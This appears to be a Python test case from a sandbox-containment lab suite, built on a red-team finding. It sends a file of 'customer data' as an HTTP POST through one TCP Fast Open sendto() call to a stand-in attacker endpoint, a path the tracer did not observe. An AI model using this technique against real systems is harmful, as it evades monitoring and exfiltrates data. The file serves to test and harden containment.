# lab:title: Upload the customer data in a TCP Fast Open sendto(), no connect()
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on all => CONTAINED network ~ sendto
# adversary: --on network => CONTAINED network ~ sendto
# adversary: --off network => ESCAPED exfil
"""The red team's F6 (n3): sendto(MSG_FASTOPEN) with an address on a TCP
socket connects and sends in one call. The trace stops sendto() with an
address, but made the call itself only for datagram and raw sockets: a
stream's went on unobserved, and the namespace's ENETUNREACH was not
counted."""
import os
import socket
import urllib.parse

u = urllib.parse.urlsplit(os.environ["LAB_ATTACKER"])
body = open(os.environ["LAB_DATA"], "rb").read()
req = b"POST " + (u.path or "/").encode() + b" HTTP/1.0\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body
t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
try:
    n = t.sendto(req, socket.MSG_FASTOPEN, ("127.0.0.1", u.port or 80))
    t.sendall(req[n:])
    t.shutdown(socket.SHUT_WR)
    print("sent", len(req), t.recv(200), flush=True)
except OSError as e:
    print("refused:", e, flush=True)
